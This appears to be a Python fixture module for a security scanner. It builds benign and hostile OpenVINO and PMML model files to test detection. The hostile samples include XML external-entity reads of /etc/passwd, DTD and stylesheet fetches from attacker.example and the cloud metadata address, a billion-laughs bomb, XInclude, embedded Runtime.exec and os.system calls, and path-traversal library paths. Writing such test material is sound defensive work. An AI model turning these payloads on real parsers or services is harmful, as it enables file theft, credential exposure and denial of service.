"""Forges of OpenVINO and PMML documents, and of hostile XML."""

from __future__ import annotations

from stannary.testing.forges import forge

__all__: list[str] = []


def _net(*layers: str, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>\n{head}<net name="m" version="11">\n<layers>{"".join(layers)}</layers>\n<edges/>\n</net>'.encode()
    )


def _layer(kind: str = "Relu", version: str = "opset1", inner: str = "") -> str:
    return f'<layer id="0" name="n" type="{kind}" version="{version}">{inner}</layer>'


_CONST = '<data element_type="f32" shape="2" offset="{}" size="{}"/>'


@forge("openvino.plain", filename="repo", family="OpenVINO", malicious=False)
def _() -> dict[str, bytes]:
    info = '<rt_info><MO_version value="2026.1"/><conversion_parameters><input_model value="/home/me/model.onnx"/></conversion_parameters></rt_info>'
    return {"model.xml": _net(_layer(), _layer("Const", inner=_CONST.format(0, 8)), info), "model.bin": bytes(8)}


@forge("openvino.extension_layer", filename="model.xml", family="OpenVINO", malicious=True)
def _() -> bytes:
    return _net(_layer("AcmeOp", "extension"))


@forge("openvino.library_path", filename="model.xml", family="OpenVINO", malicious=True)
def _() -> bytes:
    return _net(_layer("Custom", "opset1", '<data library="../../tmp/libext.so"/>'))


@forge("openvino.offset_beyond", filename="repo", family="OpenVINO", malicious=True)
def _() -> dict[str, bytes]:
    return {"model.xml": _net(_layer("Const", inner=_CONST.format(1 << 40, 8))), "model.bin": bytes(8)}


@forge("openvino.offset_negative", filename="model.xml", family="OpenVINO", malicious=True)
def _() -> bytes:
    return _net(_layer("Const", inner=_CONST.format(-16, 8)))


@forge("openvino.external_entity", filename="model.xml", family="OpenVINO", malicious=True)
def _() -> bytes:
    return _net(_layer(inner="&x;"), head='<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@forge("openvino.custom_kernel", filename="kernels.xml", family="OpenVINO", malicious=True)
def _() -> bytes:
    return b'<CustomLayer name="ReLU" type="SimpleGPU" version="1"><Kernel entry="k"><Source filename="../../k.cl"/></Kernel></CustomLayer>'


@forge("openvino.truncated", filename="model.xml", family="OpenVINO", malicious=None)
def _() -> bytes:
    return _net(_layer())[:-12]


def _pmml(body: str = "", head: str = "") -> bytes:
    fields = '<DataDictionary><DataField name="a" optype="continuous" dataType="double"/></DataDictionary>'
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header><Application name="forge"/></Header>{fields}{body}</PMML>'.encode()


def _apply(function: str) -> str:
    return f'<TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="{function}"><FieldRef field="a"/></Apply></DerivedField></TransformationDictionary>'


@forge("pmml.plain", filename="model.pmml", family="PMML", malicious=False)
def _() -> bytes:
    defined = '<TransformationDictionary><DefineFunction name="twice" optype="continuous"><ParameterField name="x"/><Apply function="*"><FieldRef field="x"/><Constant>2</Constant></Apply></DefineFunction></TransformationDictionary>'
    return _pmml(defined + '<Extension name="note" value="trained on public data"/>' + _apply("twice") + _apply("normalCDF"))


@forge("pmml.java_function", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml(_apply("java.lang.Runtime"))


@forge("pmml.unknown_function", filename="model.pmml", family="PMML", malicious=False)
def _() -> bytes:
    return _pmml(_apply("acmeScale"))


@forge("pmml.extension_script", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml('<Extension name="x-handler" extender="acme">Runtime.getRuntime().exec("echo owned")</Extension>')


@forge("pmml.extension_value_script", filename="model.xml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml("<Extension name=\"onLoad\" value=\"__import__('os').system('echo owned')\"/>")


@forge("pmml.script_element", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml('<Extension><script language="javascript">load()</script></Extension>')


@forge("pmml.external_entity", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml('<Extension name="n" value="v">&x;</Extension>', '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n')


@forge("pmml.parameter_entity", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml(head='<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>\n')


@forge("pmml.external_doctype", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml(head='<!DOCTYPE PMML SYSTEM "http://169.254.169.254/x.dtd">\n')


@forge("pmml.utf16_entity", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    text = _pmml("", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n').decode().replace("UTF-8", "UTF-16")
    return b"\xff\xfe" + text.encode("utf-16-le")


@forge("pmml.billion_laughs", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return _pmml('<Extension name="&l9;"/>', f'<!DOCTYPE PMML [<!ENTITY l0 "ha">{levels}]>\n')


@forge("pmml.internal_entity", filename="model.pmml", family="PMML", malicious=False)
def _() -> bytes:
    return _pmml('<Extension name="n" value="&co;"/>', '<!DOCTYPE PMML [<!ENTITY co "Acme">]>\n')


@forge("pmml.xinclude", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')


@forge("pmml.stylesheet", filename="model.pmml", family="PMML", malicious=True)
def _() -> bytes:
    return _pmml(head='<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n')


@forge("pmml.truncated", filename="model.pmml", family="PMML", malicious=None)
def _() -> bytes:
    return _pmml(_apply("*"))[:-30]


@forge("pmml.deep", filename="model.pmml", family="PMML", malicious=None)
def _() -> bytes:
    return b"<PMML>" + b"<a>" * 100_000
